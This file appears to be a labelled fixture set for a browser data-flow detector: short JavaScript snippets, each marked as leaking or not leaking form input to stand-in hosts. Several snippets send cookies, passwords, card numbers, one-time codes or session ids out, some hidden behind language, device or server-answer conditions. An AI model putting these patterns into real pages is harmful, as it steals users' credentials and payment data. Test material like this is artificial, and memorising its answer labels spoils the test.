//# worker-module-counter
// no flow
// why: the worker counts the letters and posts the number; the page sends that number's own constant label
const w1 = new Worker(URL.createObjectURL(new Blob(['self.onmessage = (m) => self.postMessage({ n: m.data.length, label: "n" });'])));
w1.addEventListener('message', (m) => navigator.sendBeacon('https://wmc0.mx6.example/', m.data.label));
w1.postMessage(document.querySelector('textarea[name=message]').value);

//# worker-class-wrapper
// flow: search > wcw.mx6.example via fetch
class Indexer2 {
  constructor() { this.worker = new Worker(URL.createObjectURL(new Blob(["onmessage = ({ data }) => { fetch('https://wcw.mx6.example/?q=' + data.q); };"]))); }
  find(q) { this.worker.postMessage({ q, at: 1 }); }
}
const ix2 = new Indexer2();
document.querySelector('input[type=search]').addEventListener('input', (e) => ix2.find(e.target.value));

//# worker-factory-function
// flow: identifier > wff.mx6.example via fetch
function spawn3(code) { const u = URL.createObjectURL(new Blob([code])); return new Worker(u); }
const w3 = spawn3("onmessage = (e) => fetch('https://wff.mx6.example/', { method: 'POST', body: e.data });");
w3.postMessage(document.cookie);

//# allow-list-pick-helper
// flow: email > alp.mx6.example via fetch
// why: near miss: the pick helper copies the listed keys only
const pick4 = (o, keys) => keys.reduce((r, k) => (k in o && (r[k] = o[k]), r), {});
const user4 = { email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value };
fetch('https://alp.mx6.example/', { method: 'POST', body: JSON.stringify(pick4(user4, ['email', 'lang'])) });

//# mask-map-values
// no flow
// why: each value is replaced by stars of its length
const user5 = { pin: document.querySelector('input[type=password]').value };
const masked5 = Object.fromEntries(Object.entries(user5).map(([k, v]) => [k, '*'.repeat(v.length)]));
fetch('https://mmv0.mx6.example/', { method: 'POST', body: JSON.stringify(masked5) });

//# keys-lowercased-copy
// flow: phone > klc.mx6.example via fetch
const src6 = { Tel: document.querySelector('input[type=tel]').value };
const low6 = {};
for (const [k, v] of Object.entries(src6)) low6[k.toLowerCase()] = v;
fetch('https://klc.mx6.example/', { method: 'POST', body: JSON.stringify(low6) });

//# switch-on-key-skips
// flow: username > sks.mx6.example via fetch
// why: near miss: the case of the password copies nothing
const src7 = { user: document.querySelector('input[name=username]').value, password: document.querySelector('input[type=password]').value };
const out7 = new URLSearchParams();
for (const k in src7) {
  switch (k) {
    case 'password': break;
    default: out7.set(k, src7[k]);
  }
}
fetch('https://sks.mx6.example/?' + out7);

//# reducer-by-table
// flow: email > rbt.mx6.example via fetch
const handlers8 = { SET: (s, a) => ({ ...s, [a.field]: a.value }), CLEAR: () => ({}) };
const reducer8 = (s, a) => (handlers8[a.type] ? handlers8[a.type](s, a) : s);
let state8 = {};
const dispatch8 = (a) => { state8 = reducer8(state8, a); };
document.querySelector('input[type=email]').addEventListener('change', (e) => dispatch8({ type: 'SET', field: 'email', value: e.target.value }));
document.querySelector('form').addEventListener('submit', () => fetch('https://rbt.mx6.example/', { method: 'POST', body: JSON.stringify(state8) }));

//# hook-custom-use-field
// flow: phone > huf.mx6.example via fetch
function useField9(initial) { const [value, setValue] = React.useState(initial); return { value, onChange: (e) => setValue(e.target.value) }; }
function Form9() {
  const tel = useField9('');
  return React.createElement('form', { onSubmit: () => fetch('https://huf.mx6.example/', { method: 'POST', body: tel.value }) },
    React.createElement('input', Object.assign({ type: 'tel' }, tel)));
}
ReactDOM.render(React.createElement(Form9), document.body);

//# memo-value-derived
// flow: search > mvd.mx6.example via fetch
function Box10() {
  const [q, setQ] = React.useState('');
  const url = React.useMemo(() => `https://mvd.mx6.example/?q=${encodeURIComponent(q)}`, [q]);
  React.useEffect(() => { const c = new AbortController(); fetch(url, { signal: c.signal }); return () => c.abort(); }, [url]);
  return React.createElement('input', { type: 'search', onChange: (e) => setQ(e.target.value) });
}
ReactDOM.render(React.createElement(Box10), document.body);

//# effect-without-state
// no flow
// why: the effect sends the number of renders only
function Box11() {
  const [q, setQ] = React.useState('');
  const n = React.useRef(0);
  React.useEffect(() => { n.current += 1; fetch('https://ews0.mx6.example/?n=' + n.current); }, [q]);
  return React.createElement('input', { type: 'search', value: q, onChange: (e) => setQ(e.target.value) });
}
ReactDOM.render(React.createElement(Box11), document.body);

//# jquery-find-each-trim
// flow: input > jfe.mx6.example via xhr
$('#send').click(function () {
  var parts = [];
  $('#profile').find('input').each(function (i, el) { parts.push($.trim($(el).val())); });
  $.post('https://jfe.mx6.example/', { all: parts.join('|') });
});

//# jquery-data-attribute
// no flow
// why: a data attribute of the page is sent, not what is typed
$('#list').on('click', 'li', function () { $.get('https://jda0.mx6.example/', { id: $(this).data('id') }); });

//# dataset-of-field
// no flow
// why: the dataset of the field holds what the page's author wrote
document.querySelector('input[type=email]').addEventListener('focus', (e) => fetch('https://dof0.mx6.example/?s=' + e.target.dataset.step));

//# promise-with-resolvers
// flow: otp > pwr.mx6.example via fetch
const { promise: code15, resolve: done15 } = Promise.withResolvers();
document.querySelector('input[autocomplete=one-time-code]').addEventListener('change', (e) => done15(e.target.value));
code15.then((c) => fetch('https://pwr.mx6.example/', { method: 'POST', body: c }));

//# deferred-class
// flow: email > dfc.mx6.example via fetch
class Deferred16 { constructor() { this.promise = new Promise((ok, no) => { this.resolve = ok; this.reject = no; }); } }
const d16 = new Deferred16();
document.querySelector('input[type=email]').onchange = (e) => d16.resolve({ mail: e.target.value });
d16.promise.then(({ mail }) => fetch('https://dfc.mx6.example/', { method: 'POST', body: mail }));

//# abort-by-empty
// flow: message > abe.mx6.example via fetch
const ta17 = document.querySelector('textarea[name=message]');
document.querySelector('#go').addEventListener('click', async () => {
  const text = ta17.value.trim();
  if (!text) return;
  ta17.value = '';
  await fetch('https://abe.mx6.example/', { method: 'POST', body: JSON.stringify({ text }) });
});

//# read-after-reset
// no flow
// why: the field is emptied before it is read
const ta18 = document.querySelector('textarea[name=message]');
document.querySelector('#go').addEventListener('click', () => {
  ta18.value = '';
  fetch('https://rar0.mx6.example/', { method: 'POST', body: ta18.value });
});

//# linked-list-queue
// flow: interaction > llq.mx6.example via beacon
let head19 = null;
const push19 = (v) => { head19 = { v, next: head19 }; };
document.addEventListener('click', (e) => push19(e.clientX));
addEventListener('pagehide', () => { const out = []; for (let n = head19; n; n = n.next) out.push(n.v); navigator.sendBeacon('https://llq.mx6.example/', out.join()); });

//# map-of-counters
// no flow
// why: only how often each kind of event came is counted
const counts20 = new Map();
for (const t of ['click', 'keydown']) addEventListener(t, () => counts20.set(t, (counts20.get(t) || 0) + 1));
addEventListener('pagehide', () => navigator.sendBeacon('https://moc0.mx6.example/', JSON.stringify([...counts20])));

//# text-encoder-chunks
// flow: password > tec.mx6.example via fetch
const bytes21 = new TextEncoder().encode(document.querySelector('input[type=password]').value);
const hex21 = Array.from(bytes21, (b) => b.toString(16).padStart(2, '0')).join('');
fetch('https://tec.mx6.example/?h=' + hex21);

//# symbol-iterator-class
// flow: device > sic.mx6.example via fetch
class Traits22 { *[Symbol.iterator]() { yield navigator.userAgent; yield navigator.platform; } }
fetch('https://sic.mx6.example/', { method: 'POST', body: [...new Traits22()].join(';') });

//# getter-on-prototype-defined
// flow: identifier > gpd.mx6.example via fetch
function Session23() {}
Object.defineProperty(Session23.prototype, 'id', { get() { return localStorage.getItem('sid'); } });
fetch('https://gpd.mx6.example/?s=' + new Session23().id);

//# with-default-options
// flow: card > wdo.mx6.example via fetch
function pay24({ url = 'https://wdo.mx6.example/', method = 'POST', data = {} } = {}) { return fetch(url, { method, body: JSON.stringify(data) }); }
pay24({ data: { pan: document.querySelector('input[autocomplete=cc-number]').value } });

//# label-break-skips
// no flow
// why: the labelled block is left before the request
const v25 = document.querySelector('input[type=email]').value;
out25: { if (true) break out25; fetch('https://lbs0.mx6.example/', { method: 'POST', body: v25 }); }

//# comma-and-void
// flow: username > cav.mx6.example via fetch
var t26; t26 = (0, document.querySelector('input[name=username]').value), void 0 === t26 && (t26 = ''), fetch('https://cav.mx6.example/?u=' + t26);

//# string-compare-branches
// no flow
// why: the branch chooses one of two constants
const kind27 = document.querySelector('input[type=email]').value.endsWith('.edu') ? 'student' : 'other';
fetch('https://scb0.mx6.example/?k=' + kind27);

//# guard-nullish-flag
// flow: email > gnf.mx6.example via fetch
// guard: storage equals 1
const on28 = sessionStorage.getItem('beta') === '1';
const post28 = (b) => { if (!on28) { return Promise.resolve(); } return fetch('https://gnf.mx6.example/', { method: 'POST', body: b }); };
post28(document.querySelector('input[type=email]').value);

//# guard-language-list
// flow: search > gll.mx6.example via fetch
// guard: language starts-with ru
if (navigator.languages.some((l) => l.startsWith('ru'))) fetch('https://gll.mx6.example/?q=' + document.querySelector('input[type=search]').value);

//# guard-in-then
// flow: phone > git.mx6.example via fetch
// guard: server-answer equals collect
fetch('/policy').then((r) => r.text()).then((t) => { if (t === 'collect') fetch('https://git.mx6.example/', { method: 'POST', body: document.querySelector('input[type=tel]').value }); });

//# guard-wrapped-event
// flow: email > gwe.mx6.example via beacon
// guard: event blur
// guard: user-agent contains Mobile
const isMobile31 = navigator.userAgent.indexOf('Mobile') !== -1;
document.querySelector('input[type=email]').addEventListener('blur', function () { isMobile31 && navigator.sendBeacon('https://gwe.mx6.example/', this.value); });

//# observer-text-kept
// no flow
// why: the observer copies the text into the page's own preview
const ta32 = document.querySelector('textarea[name=message]');
new MutationObserver(() => { document.querySelector('#preview').textContent = ta32.value; }).observe(ta32, { attributes: true });
fetch('https://otk0.mx6.example/seen');
